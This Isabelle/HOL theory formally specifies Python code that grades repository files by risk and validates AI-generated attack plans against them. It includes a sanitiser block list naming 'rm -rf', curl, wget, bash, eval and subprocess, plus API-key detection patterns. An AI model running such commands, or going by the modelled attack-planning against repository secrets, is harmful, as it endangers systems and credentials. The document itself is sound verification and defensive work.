theory Spec2Isabelle
  imports
    Main
    "HOL-Library.Sublist"
    "HOL-Library.Char_ord"
    "HOL-Library.List_Lexorder"
    "HOL-Library.Product_Lexorder"
begin

section \<open>Python strings\<close>

text \<open>
  A Python \<open>str\<close> is modelled as a \<open>string\<close>, a list of \<open>char\<close>. A \<open>char\<close> is a code
  point below 256, so the texts of the model are the strings whose characters are in
  that range. On these the operations below are the Python built-ins:
  \<open>is_space\<close> is \<open>str.isspace\<close>, the set that \<open>str.strip()\<close> removes and that \<open>\s\<close>
  matches in a \<open>str\<close> pattern (the six ASCII white-space characters, the separators
  \<open>0x1C\<close> to \<open>0x1F\<close>, \<open>0x85\<close> and the no-break space \<open>0xA0\<close>); \<open>lower\<close> is \<open>str.lower()\<close>,
  which folds \<open>A..Z\<close> and the capitals \<open>0xC0\<close> to \<open>0xDE\<close> other than the sign \<open>0xD7\<close>,
  and two characters are equal under \<open>re.IGNORECASE\<close> when their \<open>lower_char\<close> is
  the same. \<open>isdigit\<close> and \<open>isalpha\<close> are the classes \<open>[0-9]\<close> and \<open>[A-Za-z]\<close>.
  \<open>x in s\<close> on strings is \<open>sublist x s\<close>, \<open>s.startswith(x)\<close> is \<open>prefix x s\<close> and
  \<open>s.endswith(x)\<close> is \<open>suffix x s\<close>.
\<close>

definition is_upper :: "char \<Rightarrow> bool" where
  "is_upper c = (CHR ''A'' \<le> c \<and> c \<le> CHR ''Z'')"

definition is_lower :: "char \<Rightarrow> bool" where
  "is_lower c = (CHR ''a'' \<le> c \<and> c \<le> CHR ''z'')"

definition is_latin_upper :: "char \<Rightarrow> bool" where
  "is_latin_upper c = (CHR 0xC0 \<le> c \<and> c \<le> CHR 0xDE \<and> c \<noteq> CHR 0xD7)"

definition isdigit :: "char \<Rightarrow> bool" where
  "isdigit c = (CHR ''0'' \<le> c \<and> c \<le> CHR ''9'')"

definition isalpha :: "char \<Rightarrow> bool" where
  "isalpha c = (is_upper c \<or> is_lower c)"

definition is_space :: "char \<Rightarrow> bool" where
  "is_space c = (c = CHR '' '' \<or> (CHR 0x09 \<le> c \<and> c \<le> CHR 0x0D)
                 \<or> (CHR 0x1C \<le> c \<and> c \<le> CHR 0x1F) \<or> c = CHR 0x85 \<or> c = CHR 0xA0)"

definition lower_char :: "char \<Rightarrow> char" where
  "lower_char c =
     (if is_upper c \<or> is_latin_upper c then char_of (of_char c + (32::nat)) else c)"

definition lower :: "string \<Rightarrow> string" where
  "lower s = map lower_char s"

definition lstrip :: "string \<Rightarrow> string" where
  "lstrip s = dropWhile is_space s"

definition rstrip :: "string \<Rightarrow> string" where
  "rstrip s = rev (dropWhile is_space (rev s))"

definition strip :: "string \<Rightarrow> string" where
  "strip s = rstrip (lstrip s)"

text \<open>
  A \<open>Path\<close> is modelled by its POSIX text. \<open>path_name\<close> is \<open>Path.name\<close>, the text
  after the last \<open>/\<close>. \<open>path_suffix\<close> is \<open>Path.suffix\<close> as \<open>pathlib\<close> defines it:
  with \<open>i = name.rfind('.')\<close>, the suffix is \<open>name[i:]\<close> when \<open>0 < i < len(name) - 1\<close>
  and the empty string otherwise (so \<open>.env\<close> and \<open>Dockerfile\<close> have no suffix).
\<close>

definition path_name :: "string \<Rightarrow> string" where
  "path_name p = rev (takeWhile (\<lambda>c. c \<noteq> CHR ''/'') (rev p))"

definition name_suffix :: "string \<Rightarrow> string" where
  "name_suffix nm =
     (if CHR ''.'' \<notin> set nm then []
      else let k = length (takeWhile (\<lambda>c. c \<noteq> CHR ''.'') (rev nm));
               i = length nm - 1 - k
           in if 0 < i \<and> i < length nm - 1 then drop i nm else [])"

definition path_suffix :: "string \<Rightarrow> string" where
  "path_suffix p = name_suffix (path_name p)"

definition HIGH_RISK_SUFFIXES :: "string list" where
  "HIGH_RISK_SUFFIXES =
     [''.env'', ''.yaml'', ''.yml'', ''.json'', ''.ini'', ''.cfg'', ''.conf'', ''.tf'',
      ''.toml'', ''.pem'', ''.key'', ''.ppk'']"

definition HIGH_RISK_FILENAMES :: "string list" where
  "HIGH_RISK_FILENAMES = [''dockerfile'', ''docker-compose.yml'', ''docker-compose.yaml'']"

definition SENSITIVE_KEYWORDS :: "string list" where
  "SENSITIVE_KEYWORDS =
     [''secret'', ''credential'', ''token'', ''password'', ''config'', ''deploy'',
      ''workflow'', ''env'', ''key'']"

text \<open>
  \<open>_assess_risk(path, rel_path)\<close>: the five \<open>if\<close> statements each append one reason;
  a non-empty reason list grades the file high, a script suffix medium, the rest low.
\<close>

definition assess_risk :: "string \<Rightarrow> string \<Rightarrow> string \<times> string list" where
  "assess_risk path rel_path =
     (let sfx = lower (path_suffix path);
          name = lower (path_name path);
          rel_lower = lower rel_path;
          r0 = [];
          r1 = (if name \<in> set HIGH_RISK_FILENAMES \<or> sfx \<in> set HIGH_RISK_SUFFIXES
                then r0 @ [''Sensitive configuration or secret-bearing file''] else r0);
          r2 = (if list_ex (\<lambda>keyword. sublist keyword name) SENSITIVE_KEYWORDS
                then r1 @ [''Filename contains sensitive keyword''] else r1);
          r3 = (if sublist ''.github/workflows'' rel_lower
                then r2 @ [''GitHub Actions workflow may expose CI secrets''] else r2);
          r4 = (if sublist ''docker'' rel_lower \<and> sfx \<in> set [[], ''.yml'', ''.yaml'']
                then r3 @ [''Docker artefact impacting container security''] else r3);
          reasons = (if suffix ''/config.json'' rel_lower \<or> suffix ''/config.yaml'' rel_lower
                then r4 @ [''Configuration file with potential secrets''] else r4)
      in if reasons \<noteq> [] then (''high'', reasons)
         else if sfx \<in> set [''.sh'', ''.ps1'', ''.bat''] then (''medium'', [''Executable script''])
         else (''low'', []))"

text \<open>
  One entry of the manifest's \<open>files\<close> list (keys \<open>path\<close>, \<open>size\<close>, \<open>extension\<close>,
  \<open>risk_level\<close>, \<open>risk_reasons\<close>) and the manifest itself, a record with one field
  per key of the dictionary that \<open>_build_manifest\<close> returns.
\<close>

record file_entry =
  fe_path :: string
  fe_size :: nat
  fe_extension :: string
  fe_risk_level :: string
  fe_risk_reasons :: "string list"

record manifest =
  m_repo_id :: string
  m_repo_url :: string
  m_owner :: string
  m_name :: string
  m_fetched_at :: string
  m_file_count :: nat
  m_high_risk_file_count :: nat
  m_files :: "file_entry list"
  m_top_extensions :: "(string \<times> nat) list"

text \<open>
  \<open>Counter(xs).most_common(n)\<close>: the distinct elements in order of first occurrence
  with their counts, sorted by decreasing count (a stable sort), cut to \<open>n\<close>.
\<close>

definition counter_items :: "'a list \<Rightarrow> ('a \<times> nat) list" where
  "counter_items xs = map (\<lambda>x. (x, count_list xs x)) (rev (remdups (rev xs)))"

definition most_common :: "nat \<Rightarrow> 'a list \<Rightarrow> ('a \<times> nat) list" where
  "most_common n xs = take n (sort_key (\<lambda>item. - int (snd item)) (counter_items xs))"

text \<open>
  \<open>_build_manifest\<close>. The walk \<open>repo_dir.rglob('*')\<close> filtered by \<open>is_file()\<close> is the
  argument \<open>tree\<close>: the relative POSIX path and the size of each regular file, in the
  order of the walk. \<open>now\<close> is the text of \<open>datetime.utcnow().isoformat()\<close>.
\<close>

definition manifest_entry :: "string \<Rightarrow> string \<times> nat \<Rightarrow> file_entry" where
  "manifest_entry repo_dir f =
     (let rel_path = fst f;
          path = repo_dir @ ''/'' @ rel_path;
          risk = assess_risk path rel_path
      in \<lparr>fe_path = rel_path, fe_size = snd f, fe_extension = lower (path_suffix path),
          fe_risk_level = fst risk, fe_risk_reasons = snd risk\<rparr>)"

definition build_manifest ::
  "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> (string \<times> nat) list \<Rightarrow> string \<Rightarrow> manifest" where
  "build_manifest repo_id repo_url owner name repo_dir tree now =
     (let files = map (manifest_entry repo_dir) tree;
          top_extensions = most_common 5 (filter (\<lambda>e. e \<noteq> []) (map fe_extension files))
      in \<lparr>m_repo_id = repo_id, m_repo_url = repo_url, m_owner = owner, m_name = name,
          m_fetched_at = now @ ''Z'',
          m_file_count = length files,
          m_high_risk_file_count =
            sum_list (map (\<lambda>file. 1) (filter (\<lambda>file. fe_risk_level file = ''high'') files)),
          m_files = files,
          m_top_extensions = top_extensions\<rparr>)"

text \<open>\<open>list_all_paths\<close> and \<open>select_high_risk_files\<close> of \<open>repo_fetcher\<close>.\<close>

definition list_all_paths :: "manifest \<Rightarrow> string list" where
  "list_all_paths m = filter (\<lambda>p. p \<noteq> []) (map fe_path (m_files m))"

definition select_high_risk_files :: "manifest \<Rightarrow> nat \<Rightarrow> file_entry list" where
  "select_high_risk_files m limit =
     (let files = m_files m;
          high_risk = filter (\<lambda>file. fe_risk_level file = ''high'') files;
          high_risk = sort_key (\<lambda>file. (- int (length (fe_risk_reasons file)),
                                        - int (fe_size file), fe_path file)) high_risk
      in if high_risk \<noteq> [] then take limit high_risk
         else take limit (sort_key (\<lambda>file. - int (fe_size file)) files))"

text \<open>
  The reading of the risk rule in the specification: a file is high-risk exactly when
  its name or extension is in the fixed set, or its path contains one of the eight
  listed keywords, or it is under a workflow directory, or it is a Docker artefact.
\<close>

definition SPEC_KEYWORDS :: "string list" where
  "SPEC_KEYWORDS =
     [''secret'', ''credential'', ''token'', ''password'', ''config'', ''deploy'',
      ''workflow'', ''key'']"

definition spec_high_risk :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "spec_high_risk path rel_path =
     (lower (path_name path) \<in> set HIGH_RISK_FILENAMES
      \<or> lower (path_suffix path) \<in> set HIGH_RISK_SUFFIXES
      \<or> list_ex (\<lambda>keyword. sublist keyword (lower rel_path)) SPEC_KEYWORDS
      \<or> sublist ''.github/workflows'' (lower rel_path)
      \<or> (sublist ''docker'' (lower rel_path)
          \<and> lower (path_suffix path) \<in> set [[], ''.yml'', ''.yaml'']))"

text \<open>The disjunction of the five conditions under which \<open>_assess_risk\<close> appends a reason.\<close>

definition high_rule_fires :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "high_rule_fires path rel_path =
     (lower (path_name path) \<in> set HIGH_RISK_FILENAMES
      \<or> lower (path_suffix path) \<in> set HIGH_RISK_SUFFIXES
      \<or> list_ex (\<lambda>keyword. sublist keyword (lower (path_name path))) SENSITIVE_KEYWORDS
      \<or> sublist ''.github/workflows'' (lower rel_path)
      \<or> (sublist ''docker'' (lower rel_path)
          \<and> lower (path_suffix path) \<in> set [[], ''.yml'', ''.yaml''])
      \<or> suffix ''/config.json'' (lower rel_path)
      \<or> suffix ''/config.yaml'' (lower rel_path))"

section \<open>gemini\_service: the regular expressions of \<open>_sanitize_text\<close>\<close>

text \<open>
  The patterns that \<open>_sanitize_text\<close> gives to \<open>re.sub\<close> are sequences of five kinds of
  item: a character (\<open>Ch\<close>), a character matched without regard to case (\<open>ChI\<close>, under
  \<open>re.IGNORECASE\<close>), \<open>\s+\<close> (\<open>Spaces1\<close>), a character class repeated exactly \<open>n\<close> times
  (\<open>Rep\<close>, as in \<open>[0-9A-Za-z]{48}\<close>) and a class repeated at least \<open>n\<close> times
  (\<open>RepMin\<close>, as in \<open>[A-Za-z0-9_-]{40,}\<close>).
\<close>

datatype item = Ch char | ChI char | Spaces1 | Rep "char \<Rightarrow> bool" nat | RepMin "char \<Rightarrow> bool" nat

text \<open>
  \<open>match_prefix p s\<close> is the length of the match of \<open>p\<close> at the start of \<open>s\<close> that the
  engine of \<open>re\<close> finds, if there is one. The two repetitions are greedy and take the
  longest run. In the patterns of this module a repetition is followed either by nothing
  or by a character outside its class (\<open>wf_pattern\<close> below), so giving characters back
  never helps; \<open>match_prefix_sound\<close> and \<open>match_prefix_complete\<close> relate the matcher to
  the language of the pattern, \<open>fullmatch\<close>.
\<close>

fun match_prefix :: "item list \<Rightarrow> string \<Rightarrow> nat option" where
  "match_prefix [] s = Some 0"
| "match_prefix (Ch c # p) s =
     (case s of [] \<Rightarrow> None
      | x # xs \<Rightarrow> if x = c then map_option Suc (match_prefix p xs) else None)"
| "match_prefix (ChI c # p) s =
     (case s of [] \<Rightarrow> None
      | x # xs \<Rightarrow> if lower_char x = lower_char c then map_option Suc (match_prefix p xs) else None)"
| "match_prefix (Spaces1 # p) s =
     (let k = length (takeWhile is_space s)
      in if k = 0 then None else map_option (\<lambda>n. k + n) (match_prefix p (drop k s)))"
| "match_prefix (Rep f n # p) s =
     (if n \<le> length s \<and> list_all f (take n s)
      then map_option (\<lambda>m. n + m) (match_prefix p (drop n s)) else None)"
| "match_prefix (RepMin f n # p) s =
     (let k = length (takeWhile f s)
      in if k < n then None else map_option (\<lambda>m. k + m) (match_prefix p (drop k s)))"

text \<open>\<open>fullmatch p w\<close>: the whole word \<open>w\<close> is in the language of the pattern \<open>p\<close>.\<close>

fun fullmatch :: "item list \<Rightarrow> string \<Rightarrow> bool" where
  "fullmatch [] w = (w = [])"
| "fullmatch (Ch c # p) w = (case w of [] \<Rightarrow> False | x # xs \<Rightarrow> x = c \<and> fullmatch p xs)"
| "fullmatch (ChI c # p) w =
     (case w of [] \<Rightarrow> False | x # xs \<Rightarrow> lower_char x = lower_char c \<and> fullmatch p xs)"
| "fullmatch (Spaces1 # p) w =
     (\<exists>k. 0 < k \<and> k \<le> length w \<and> list_all is_space (take k w) \<and> fullmatch p (drop k w))"
| "fullmatch (Rep f n # p) w =
     (n \<le> length w \<and> list_all f (take n w) \<and> fullmatch p (drop n w))"
| "fullmatch (RepMin f n # p) w =
     (\<exists>k. n \<le> k \<and> k \<le> length w \<and> list_all f (take k w) \<and> fullmatch p (drop k w))"


fun re_sub :: "item list \<Rightarrow> (string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> string" where
  "re_sub p repl [] = (case match_prefix p [] of None \<Rightarrow> [] | Some n \<Rightarrow> repl [])"
| "re_sub p repl (c # cs) =
     (case match_prefix p (c # cs) of
        None \<Rightarrow> c # re_sub p repl cs
      | Some 0 \<Rightarrow> repl [] @ c # re_sub p repl cs
      | Some (Suc n) \<Rightarrow> repl (take (Suc n) (c # cs)) @ re_sub p repl (drop n cs))"

text \<open>
  The patterns of \<open>_sanitize_text\<close>: the list \<open>dangerous_patterns\<close> (compiled with
  \<open>re.IGNORECASE\<close>), the two API-key patterns and the generic token pattern, whose
  replacement is the \<open>lambda\<close> \<open>token_repl\<close>. Its tests \<open>c.isdigit()\<close> and \<open>c.isalpha()\<close>
  are made on the characters of a match of the token pattern, which are ASCII letters,
  digits, \<open>_\<close> and \<open>-\<close>; on these they are the classes \<open>isdigit\<close> and \<open>isalpha\<close>.
\<close>

definition ci :: "string \<Rightarrow> item list" where
  "ci s = map ChI s"

definition cs_lit :: "string \<Rightarrow> item list" where
  "cs_lit s = map Ch s"

definition dangerous_patterns :: "item list list" where
  "dangerous_patterns =
     [ci ''rm'' @ [Spaces1] @ ci ''-rf'',
      ci ''curl'' @ [Spaces1],
      ci ''wget'' @ [Spaces1],
      ci ''bash'' @ [Spaces1],
      ci ''sh'' @ [Spaces1],
      ci ''exec('',
      ci ''eval('',
      ci ''os.system'',
      ci ''subprocess.'']"

definition key_char :: "char \<Rightarrow> bool" where
  "key_char c = (isdigit c \<or> isalpha c \<or> c = CHR ''_'' \<or> c = CHR ''-'')"

definition alnum_char :: "char \<Rightarrow> bool" where
  "alnum_char c = (isdigit c \<or> isalpha c)"

definition GEMINI_KEY_PATTERN :: "item list" where
  "GEMINI_KEY_PATTERN = cs_lit ''AIza'' @ [Rep key_char 35]"

definition OPENAI_KEY_PATTERN :: "item list" where
  "OPENAI_KEY_PATTERN = cs_lit ''sk-'' @ [Rep alnum_char 48]"

definition TOKEN_PATTERN :: "item list" where
  "TOKEN_PATTERN = [RepMin key_char 40]"

definition token_repl :: "string \<Rightarrow> string" where
  "token_repl m = (if list_ex (\<lambda>c. isdigit c \<and> isalpha c) m then ''[REDACTED_TOKEN]'' else m)"

text \<open>\<open>_sanitize_text\<close>.\<close>

definition sanitize_text :: "string \<Rightarrow> string" where
  "sanitize_text text =
     (if text = [] then []
      else let text = foldl (\<lambda>text pattern. re_sub pattern (\<lambda>m. ''[REDACTED]'') text)
                        text dangerous_patterns;
               text = re_sub GEMINI_KEY_PATTERN (\<lambda>m. ''[REDACTED_API_KEY]'') text;
               text = re_sub OPENAI_KEY_PATTERN (\<lambda>m. ''[REDACTED_API_KEY]'') text;
               text = re_sub TOKEN_PATTERN token_repl text
           in strip text)"

text \<open>
  Properties of patterns and texts used in the proofs. \<open>wf_pattern\<close>: each greedy
  repetition is last or is followed by a character that the repetition cannot take.
  \<open>noempty\<close>: the pattern never matches the empty string. \<open>free q s\<close>: no piece of \<open>s\<close>
  is in the language of \<open>q\<close>. \<open>clean q r\<close>: the words of \<open>q\<close> are not empty, hold no
  square bracket and are no piece of the replacement text \<open>r\<close>. \<open>item_excl\<close>,
  \<open>item_marks\<close> and \<open>starts_char\<close> are the syntactic checks from which these follow.
\<close>

fun wf_pattern :: "item list \<Rightarrow> bool" where
  "wf_pattern [] = True"
| "wf_pattern (Spaces1 # p) =
     (wf_pattern p \<and> (case p of [] \<Rightarrow> True
               | Ch c # _ \<Rightarrow> \<not> is_space c
               | ChI c # _ \<Rightarrow> \<not> is_space (lower_char c)
               | _ \<Rightarrow> False))"
| "wf_pattern (RepMin f n # p) = (p = [])"
| "wf_pattern (Ch c # p) = wf_pattern p"
| "wf_pattern (ChI c # p) = wf_pattern p"
| "wf_pattern (Rep f n # p) = wf_pattern p"

definition noempty :: "item list \<Rightarrow> bool" where
  "noempty p = (\<forall>t. match_prefix p t \<noteq> Some 0)"



definition bracketed :: "string \<Rightarrow> bool" where
  "bracketed r = (r \<noteq> [] \<and> hd r = CHR ''['' \<and> last r = CHR '']'')"

fun item_excl :: "char \<Rightarrow> item \<Rightarrow> bool" where
  "item_excl x (Ch c) = (x \<noteq> c)"
| "item_excl x (ChI c) = (lower_char x \<noteq> lower_char c)"
| "item_excl x Spaces1 = (\<not> is_space x)"
| "item_excl x (Rep f n) = (\<not> f x)"
| "item_excl x (RepMin f n) = (\<not> f x)"

fun item_marks :: "string \<Rightarrow> item \<Rightarrow> bool" where
  "item_marks r (Ch c) = (c \<notin> set r)"
| "item_marks r (ChI c) = list_all (\<lambda>x. lower_char x \<noteq> lower_char c) r"
| "item_marks r Spaces1 = False"
| "item_marks r (Rep f n) = False"
| "item_marks r (RepMin f n) = False"

fun starts_char :: "item list \<Rightarrow> bool" where
  "starts_char (Ch c # p) = True"
| "starts_char (ChI c # p) = True"
| "starts_char p = False"

definition pattern_ok :: "item list \<Rightarrow> bool" where
  "pattern_ok q = (wf_pattern q \<and> starts_char q
      \<and> list_all (item_excl CHR ''['') q \<and> list_all (item_excl CHR '']'') q
      \<and> list_ex (item_marks ''[REDACTED]'') q \<and> list_ex (item_marks ''[REDACTED_API_KEY]'') q)"

section \<open>gemini\_service: JSON values, exceptions and the Python runtime\<close>

text \<open>
  The value that \<open>json.loads\<close> returns: \<open>None\<close>, a \<open>bool\<close>, an \<open>int\<close>, a \<open>float\<close>, a
  \<open>str\<close>, a \<open>list\<close> or a \<open>dict\<close> with string keys. A \<open>dict\<close> is the list of its items in
  insertion order (\<open>json.loads\<close> never returns two items with one key). A finite
  \<open>float\<close> is \<open>Finite m e\<close>, the number \<open>m * 2 ^ e\<close>; \<open>json.loads\<close> also reads \<open>NaN\<close>,
  \<open>Infinity\<close> and \<open>-Infinity\<close> (\<open>Inf True\<close> is the negative one).
\<close>

datatype pyfloat = Finite int int | NaN | Inf bool

datatype json =
    JNull
  | JBool bool
  | JInt int
  | JFloat pyfloat
  | JStr string
  | JList "json list"
  | JObj "(string \<times> json) list"

text \<open>
  The exceptions that the plan functions raise or let through. A function that can
  raise returns \<open>exn + 'a\<close>, with \<open>Inl\<close> the exception.
\<close>

datatype exn =
    GeminiPlanError string
  | ValueError string
  | JSONDecodeError
  | KeyError
  | TypeError
  | AttributeError
  | OverflowError
  | ValidationError

text \<open>
  Four pieces of the Python runtime are not modelled but taken as they come, in the
  record \<open>runtime\<close>: \<open>json.loads\<close> (\<open>None\<close> is a \<open>JSONDecodeError\<close>), the text that
  \<open>str()\<close> gives for a number, a list or a dict, \<open>int()\<close> of a \<open>str\<close> (\<open>None\<close> is a
  \<open>ValueError\<close>), and \<open>str.upper()\<close> (which takes three characters below 256 out of
  that range). Every theorem below holds for every such runtime.
\<close>

record runtime =
  json_loads :: "string \<Rightarrow> json option"
  py_repr :: "json \<Rightarrow> string"
  int_of_str :: "string \<Rightarrow> int option"
  str_upper :: "string \<Rightarrow> string"

text \<open>Truth value of an object, \<open>x or y\<close>, \<open>d.get(k, default)\<close>, \<open>str(x)\<close> and \<open>int(x)\<close>.\<close>

fun truthy :: "json \<Rightarrow> bool" where
  "truthy JNull = False"
| "truthy (JBool b) = b"
| "truthy (JInt i) = (i \<noteq> 0)"
| "truthy (JFloat f) = (case f of Finite m e \<Rightarrow> m \<noteq> 0 | NaN \<Rightarrow> True | Inf b \<Rightarrow> True)"
| "truthy (JStr s) = (s \<noteq> [])"
| "truthy (JList xs) = (xs \<noteq> [])"
| "truthy (JObj d) = (d \<noteq> [])"

definition py_or :: "json \<Rightarrow> json \<Rightarrow> json" where
  "py_or a b = (if truthy a then a else b)"

definition dict_get :: "(string \<times> json) list \<Rightarrow> string \<Rightarrow> json \<Rightarrow> json" where
  "dict_get d k dflt = (case map_of d k of None \<Rightarrow> dflt | Some v \<Rightarrow> v)"

fun py_str :: "runtime \<Rightarrow> json \<Rightarrow> string" where
  "py_str rt (JStr s) = s"
| "py_str rt JNull = ''None''"
| "py_str rt (JBool b) = (if b then ''True'' else ''False'')"
| "py_str rt (JInt i) = py_repr rt (JInt i)"
| "py_str rt (JFloat f) = py_repr rt (JFloat f)"
| "py_str rt (JList xs) = py_repr rt (JList xs)"
| "py_str rt (JObj d) = py_repr rt (JObj d)"

fun py_int :: "runtime \<Rightarrow> json \<Rightarrow> exn + int" where
  "py_int rt (JInt i) = Inr i"
| "py_int rt (JBool b) = Inr (if b then 1 else 0)"
| "py_int rt (JFloat f) =
     (case f of
        Finite m e \<Rightarrow> Inr (if 0 \<le> e then m * 2 ^ nat e else sgn m * (\<bar>m\<bar> div 2 ^ nat (- e)))
      | NaN \<Rightarrow> Inl (ValueError ''cannot convert float NaN to integer'')
      | Inf b \<Rightarrow> Inl OverflowError)"
| "py_int rt (JStr s) =
     (case int_of_str rt s of
        None \<Rightarrow> Inl (ValueError ''invalid literal for int() with base 10'')
      | Some i \<Rightarrow> Inr i)"
| "py_int rt JNull = Inl TypeError"
| "py_int rt (JList xs) = Inl TypeError"
| "py_int rt (JObj d) = Inl TypeError"

text \<open>
  \<open>for x in v\<close>: a list gives its elements, a dict its keys, a string its characters;
  anything else is not iterable. \<open>x in s\<close> for a set \<open>s\<close> hashes \<open>x\<close> first, which a
  list or a dict refuses. \<open>xs[:n]\<close> with an \<open>int\<close> that may be negative.
\<close>

fun iter_json :: "json \<Rightarrow> exn + json list" where
  "iter_json (JList xs) = Inr xs"
| "iter_json (JObj d) = Inr (map (\<lambda>item. JStr (fst item)) d)"
| "iter_json (JStr s) = Inr (map (\<lambda>c. JStr [c]) s)"
| "iter_json JNull = Inl TypeError"
| "iter_json (JBool b) = Inl TypeError"
| "iter_json (JInt i) = Inl TypeError"
| "iter_json (JFloat f) = Inl TypeError"

fun hashable :: "json \<Rightarrow> bool" where
  "hashable (JList xs) = False"
| "hashable (JObj d) = False"
| "hashable JNull = True"
| "hashable (JBool b) = True"
| "hashable (JInt i) = True"
| "hashable (JFloat f) = True"
| "hashable (JStr s) = True"

definition slice_to :: "int \<Rightarrow> 'a list \<Rightarrow> 'a list" where
  "slice_to n xs = (if 0 \<le> n then take (nat n) xs else take (length xs - nat (- n)) xs)"

text \<open>
  \<open>s.split(sep)\<close> for a separator of one character, \<open>sep.join(xs)\<close> and
  \<open>s.replace(old, new)\<close> for a non-empty \<open>old\<close>. \<open>lines[1:-1]\<close> is \<open>butlast (tl lines)\<close>.
\<close>

fun split_on :: "char \<Rightarrow> string \<Rightarrow> string list" where
  "split_on sep [] = [[]]"
| "split_on sep (c # cs) =
     (if c = sep then [] # split_on sep cs
      else (case split_on sep cs of [] \<Rightarrow> [[c]] | w # ws \<Rightarrow> (c # w) # ws))"

fun join :: "string \<Rightarrow> string list \<Rightarrow> string" where
  "join sep [] = []"
| "join sep [x] = x"
| "join sep (x # y # ys) = x @ sep @ join sep (y # ys)"

fun replace_str :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "replace_str old new [] = []"
| "replace_str old new (c # cs) =
     (if old \<noteq> [] \<and> prefix old (c # cs)
      then new @ replace_str old new (drop (length old - 1) cs)
      else c # replace_str old new cs)"

text \<open>
  The two regular expressions that look for a JSON object, \<open>\{.*\}\<close> with \<open>re.DOTALL\<close>
  and \<open>\{[\s\S]*\}\<close>, match the same text: from the first \<open>{\<close> to the last \<open>}\<close> after
  it. \<open>json_block\<close> is \<open>match.group(0)\<close> of \<open>search\<close>, \<open>None\<close> when there is no match.
\<close>

definition json_block :: "string \<Rightarrow> string option" where
  "json_block s =
     (let from_brace = dropWhile (\<lambda>c. c \<noteq> CHR ''{'') s;
          to_brace = rev (dropWhile (\<lambda>c. c \<noteq> CHR ''}'') (rev from_brace))
      in if to_brace = [] then None else Some to_brace)"





section \<open>gemini\_service: from a model response to an attack plan\<close>

text \<open>\<open>_ALLOWED_SEVERITIES\<close>, \<open>_DEFAULT_OVERALL_SEVERITY\<close> and the two normalisers.\<close>

definition ALLOWED_SEVERITIES :: "string list" where
  "ALLOWED_SEVERITIES = [''low'', ''medium'', ''high'', ''critical'']"

definition DEFAULT_OVERALL_SEVERITY :: string where
  "DEFAULT_OVERALL_SEVERITY = ''high''"

definition normalise_severity :: "json \<Rightarrow> string" where
  "normalise_severity v =
     (case v of
        JStr s \<Rightarrow>
          (let lowered = lower (strip s)
           in if lowered \<in> set ALLOWED_SEVERITIES then lowered else DEFAULT_OVERALL_SEVERITY)
      | _ \<Rightarrow> DEFAULT_OVERALL_SEVERITY)"

definition normalise_technique_id :: "runtime \<Rightarrow> json \<Rightarrow> string" where
  "normalise_technique_id rt v =
     (case v of
        JStr s \<Rightarrow>
          (if strip s \<noteq> []
           then (let candidate = str_upper rt (strip s)
                 in if prefix ''T'' candidate then candidate else ''T'' @ candidate)
           else ''T0000'')
      | _ \<Rightarrow> ''T0000'')"

text \<open>
  The models \<open>AttackStep\<close> and \<open>AttackPlan\<close> of \<open>schemas\<close>. The constructor of
  \<open>AttackStep\<close> validates \<open>step_number\<close> against \<open>Field(..., ge=1)\<close>; the other fields
  are given values of their declared types at both call sites. The step dictionaries
  of \<open>_parse_and_validate_attack_plan\<close> have the same five keys and use the same record.
\<close>

record attack_step =
  st_step_number :: int
  st_description :: string
  st_technique_id :: string
  st_severity :: string
  st_affected_files :: "string list"

record attack_plan =
  pl_repo_id :: string
  pl_overall_severity :: string
  pl_steps :: "attack_step list"

definition AttackStep ::
  "int \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> exn + attack_step" where
  "AttackStep step_number description technique_id severity affected_files =
     (if step_number < 1 then Inl ValidationError
      else Inr \<lparr>st_step_number = step_number, st_description = description,
                st_technique_id = technique_id, st_severity = severity,
                st_affected_files = affected_files\<rparr>)"

text \<open>
  \<open>_plan_from_dict\<close>. \<open>filter_paths\<close> is the comprehension
  \<open>[path for path in affected_files_raw if path in valid_paths]\<close>. \<open>step_from_dict\<close> is
  the body of the loop for a step that is a dict: \<open>Inr None\<close> is \<open>continue\<close>. The
  comprehension is evaluated before the test of the description, and \<open>int()\<close> and
  the constructor after it. \<open>plan_steps\<close> is the loop, \<open>index\<close> counting from 1.
\<close>

fun filter_paths :: "string list \<Rightarrow> json list \<Rightarrow> exn + string list" where
  "filter_paths valid_paths [] = Inr []"
| "filter_paths valid_paths (path # rest) =
     (if \<not> hashable path then Inl TypeError
      else (case filter_paths valid_paths rest of
              Inl e \<Rightarrow> Inl e
            | Inr kept \<Rightarrow>
                (case path of
                   JStr s \<Rightarrow> if s \<in> set valid_paths then Inr (s # kept) else Inr kept
                 | _ \<Rightarrow> Inr kept)))"

definition step_from_dict ::
  "runtime \<Rightarrow> string list \<Rightarrow> string list \<Rightarrow> nat \<Rightarrow> (string \<times> json) list
     \<Rightarrow> exn + attack_step option" where
  "step_from_dict rt valid_paths high_risk_paths index raw_step =
     (let description =
            strip (py_str rt (py_or (dict_get raw_step ''description'' JNull) (JStr [])));
          technique_id = normalise_technique_id rt (dict_get raw_step ''technique_id'' JNull);
          severity = normalise_severity (dict_get raw_step ''severity'' JNull);
          affected_files_raw = py_or (dict_get raw_step ''affected_files'' JNull) (JList []);
          affected_files_raw =
            (case affected_files_raw of JStr s \<Rightarrow> JList [JStr s] | _ \<Rightarrow> affected_files_raw)
      in case iter_json affected_files_raw of
           Inl e \<Rightarrow> Inl e
         | Inr paths \<Rightarrow>
             (case filter_paths valid_paths paths of
                Inl e \<Rightarrow> Inl e
              | Inr filtered \<Rightarrow>
                  (let filtered_files =
                         (if filtered = [] \<and> high_risk_paths \<noteq> []
                          then [high_risk_paths ! min (index - 1) (length high_risk_paths - 1)]
                          else filtered)
                   in if description = [] then Inr None
                      else (case py_int rt (py_or (dict_get raw_step ''step_number'' JNull)
                                                  (JInt (int index))) of
                              Inl e \<Rightarrow> Inl e
                            | Inr step_number \<Rightarrow>
                                (case AttackStep step_number description technique_id severity
                                        filtered_files of
                                   Inl e \<Rightarrow> Inl e
                                 | Inr step \<Rightarrow> Inr (Some step))))))"

fun plan_steps ::
  "runtime \<Rightarrow> string list \<Rightarrow> string list \<Rightarrow> nat \<Rightarrow> json list \<Rightarrow> exn + attack_step list" where
  "plan_steps rt valid_paths high_risk_paths index [] = Inr []"
